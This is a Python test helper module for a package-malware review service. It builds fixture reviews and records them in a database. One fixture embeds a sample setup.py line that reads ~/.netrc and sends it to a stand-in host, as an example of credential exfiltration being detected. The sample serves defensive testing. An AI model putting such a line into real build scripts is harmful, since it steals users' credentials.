"""Reviews of ours in a database, as the service records them."""

from __future__ import annotations

import datetime
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import msgspec
from sqlalchemy import Connection, select

from antivenom.model.moments import stamp
from antivenom.model.review import FindingSpan, Review, Verdict
from antivenom.service import reviews
from antivenom.session import Reviewed
from antivenom.store import open_store
from antivenom.store.schema_cases import case_reviews
from tests.report.builders import artifact, excerpts, finding, review, sha, span

NOW = datetime.datetime(2026, 11, 21, 12, 0, tzinfo=datetime.UTC)


def after(minutes: float) -> datetime.datetime:
    """Return a moment after `NOW`."""
    return NOW + datetime.timedelta(minutes=minutes)


@contextmanager
def writing(tmp_path: Path) -> Iterator[Connection]:
    """Give a connection to a new database."""
    with open_store(str(tmp_path / "service.db")) as store, store.writing() as connection:
        yield connection


def thief(
    name: str = "demo-pkg", version: str = "1.0", *, host: str = "drop.invalid", score: float = 0.97
) -> Review:
    """Return the review of a package that sends credentials to a host."""
    text = f'urlopen("https://{host}/c", open(os.path.expanduser("~/.netrc")).read())'
    place: FindingSpan = span(f"{name}-{version}/setup.py", 4, text)
    found = finding(
        "exfiltration/sends-credentials",
        f"setup.py reads credential files and sends them to {host} when built",
        place,
        chain=("secrets.file", "net.send"),
        weight=score,
    )
    verdict = Verdict.MALICIOUS if score >= 0.9 else Verdict.SUSPICIOUS
    made = review(
        verdict,
        score,
        found,
        artifact=artifact(name, version),
        excerpts=excerpts(place.member, f"import os\n\n\n{text}\n"),
    )
    # What is said differently of the same bytes was said by another rule book.
    return with_digests(made, f"that says {score}")


def clean(name: str = "demo-pkg", version: str = "1.0") -> Review:
    """Return the review of a package in which nothing was found."""
    return review(Verdict.CLEAN, 0.02, artifact=artifact(name, version))


def with_digests(one: Review, rulebook: str) -> Review:
    """Return the same review as another rule book would have made it."""
    digests = msgspec.structs.replace(one.digests, rulebook=sha(rulebook))
    return msgspec.structs.replace(one, digests=digests)


def record(
    connection: Connection,
    one: Review,
    *,
    now: datetime.datetime = NOW,
    members: Mapping[str, str] | None = None,
) -> int | None:
    """Write a review's row and consider it; return its case."""
    if members is None:
        spans = [span for found in one.findings for span in found.spans]
        members = {s.member: sha(f"{one.artifact.name} {s.member}") for s in spans}
    reviews.record(connection, None, Reviewed(review=one, members=members), stamp(now))
    table = case_reviews
    query = select(table.c.case).where(table.c.review == reviews.identity(one))
    return connection.scalar(query.order_by(table.c.case.desc()).limit(1))
